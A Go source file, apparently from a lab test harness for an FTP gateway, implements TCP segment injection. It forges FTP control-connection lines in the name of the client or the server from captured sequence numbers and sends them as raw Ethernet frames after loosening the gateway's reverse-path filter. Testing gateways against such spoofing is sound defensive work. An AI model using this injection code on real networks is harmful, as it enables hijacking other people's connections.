package attack

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"golang.org/x/sys/unix"

	"github.com/ftpalg/ftpalg/deploy/lab"
)

// loosen makes the gateway believe in any source address to which it knows a way at all
// (rp_filter 2), as systemd does. A lab's networks have 0 otherwise, which checks nothing.
func loosen(gateway *lab.Host) error {
	err := gateway.Do(func() error { return os.WriteFile("/proc/sys/net/ipv4/conf/all/rp_filter", []byte("2"), 0) })
	if err != nil {
		return fmt.Errorf("setting the reverse-path filter of %s: %w", gateway.Name, err)
	}
	return nil
}

// forgeServer plays the script, and says the forged lines as the server, from beside the
// client.
func forgeServer(ctx context.Context, s *scene) (cell Cell, err error) {
	m, err := s.mimic(s.Host(s.hostile.client), "outside", s.dialogue.client.RemoteAddr(), s.dialogue.client.LocalAddr())
	if err != nil {
		return cell, err
	}
	defer func() { err = errors.Join(err, m.wire.Stop()) }()
	if err := s.play(s.script); err != nil {
		return cell, err
	}
	for _, line := range s.forged {
		if err := m.say(ctx, line); err != nil {
			return cell, err
		}
	}
	return s.try(ctx)
}

// forgeClient plays the script, and says the forged lines as the client, from beside the
// server, whose own lines are among them.
func forgeClient(ctx context.Context, s *scene) (cell Cell, err error) {
	m, err := s.mimic(s.Server, "eth0", s.dialogue.client.LocalAddr(), s.dialogue.client.RemoteAddr())
	if err != nil {
		return cell, err
	}
	defer func() { err = errors.Join(err, m.wire.Stop()) }()
	if err := s.play(s.script); err != nil {
		return cell, err
	}
	for _, line := range s.forged {
		// The client's TCP does not take what acknowledges more than it has said.
		if reply, ok := strings.CutPrefix(line, "S: "); ok {
			if _, err := fmt.Fprintf(s.server, "%s\r\n", reply); err != nil {
				return cell, err
			}
			if err := sleep(ctx, onItsWay); err != nil {
				return cell, err
			}
		} else if err := m.say(ctx, line); err != nil {
			return cell, err
		}
	}
	return s.try(ctx)
}

// mimic speaks in the name of one end of a connection, from a host beside the other.
type mimic struct {
	host     *lab.Host
	wire     *lab.Capture // of the host's interface
	from, to netip.AddrPort
}

func (s *scene) mimic(h *lab.Host, name string, from, to net.Addr) (m *mimic, err error) {
	m = &mimic{host: h, from: from.(*net.TCPAddr).AddrPort(), to: to.(*net.TCPAddr).AddrPort()}
	m.wire, err = h.CaptureTCP(name, s.control.Port())
	return m, err
}

var errUnheard = errors.New("no segment was captured of the end that is to be mimicked")

// say sends a line to the gateway, which is on the way between the two: as the next
// segment of one end.
func (m *mimic) say(ctx context.Context, line string) error {
	eth, last, next, want := m.heard()
	// What was captured is read in its own time.
	for end := time.Now().Add(time.Second); last == nil && time.Now().Before(end); eth, last, next, want = m.heard() {
		if err := sleep(ctx, onItsWay); err != nil {
			return err
		}
	}
	if last == nil {
		return errUnheard
	}
	eth.SrcMAC, eth.DstMAC = eth.DstMAC, eth.SrcMAC
	tcp := *last
	tcp.Seq, tcp.Ack, tcp.ACK, tcp.PSH = next, want, true, true
	ip := &layers.IPv4{Version: 4, TTL: 64, Protocol: layers.IPProtocolTCP, SrcIP: m.from.Addr().AsSlice(), DstIP: m.to.Addr().AsSlice()}
	if err := tcp.SetNetworkLayerForChecksum(ip); err != nil {
		return err
	}
	b := gopacket.NewSerializeBuffer()
	o := gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}
	if err := gopacket.SerializeLayers(b, o, &eth, ip, &tcp, gopacket.Payload(line+"\r\n")); err != nil {
		return fmt.Errorf("making a segment in another's name: %w", err)
	}
	if err := sendFrame(m.host, m.wire.Interface, b.Bytes()); err != nil {
		return err
	}
	return sleep(ctx, onItsWay)
}

// heard returns the last segment of the end that is to be mimicked, in the frame that its
// first came in, the number that it goes on at, and what it has of the other end. It returns
// nil where nothing was captured of it.
func (m *mimic) heard() (eth layers.Ethernet, last *layers.TCP, next, want uint32) {
	for _, p := range m.wire.Packets() {
		packet := gopacket.NewPacket(p.Frame, layers.LayerTypeEthernet, gopacket.NoCopy)
		ip, _ := packet.Layer(layers.LayerTypeIPv4).(*layers.IPv4)
		t, ok := packet.Layer(layers.LayerTypeTCP).(*layers.TCP)
		if !ok || ip == nil {
			continue
		}
		end := t.Seq + uint32(len(t.Payload))
		switch {
		case m.is(ip, t, m.from, m.to):
			if last == nil || int32(end-next) > 0 {
				next = end
			}
			if last == nil { // later ones may be our own, which come back
				eth = *packet.Layer(layers.LayerTypeEthernet).(*layers.Ethernet)
			}
			last = t
		case m.is(ip, t, m.to, m.from):
			want = end
		}
	}
	return eth, last, next, want
}

func (m *mimic) is(ip *layers.IPv4, t *layers.TCP, from, to netip.AddrPort) bool {
	return ip.SrcIP.Equal(from.Addr().AsSlice()) && ip.DstIP.Equal(to.Addr().AsSlice()) &&
		uint16(t.SrcPort) == from.Port() && uint16(t.DstPort) == to.Port()
}

// sendFrame sends an Ethernet frame as it is.
func sendFrame(h *lab.Host, name string, frame []byte) error {
	err := h.Do(func() error {
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		out, err := net.InterfaceByName(name)
		if err != nil {
			return err
		}
		return unix.Sendto(fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: out.Index})
	})
	if err != nil {
		return fmt.Errorf("sending a frame on %s of %s: %w", name, h.Name, err)
	}
	return nil
}
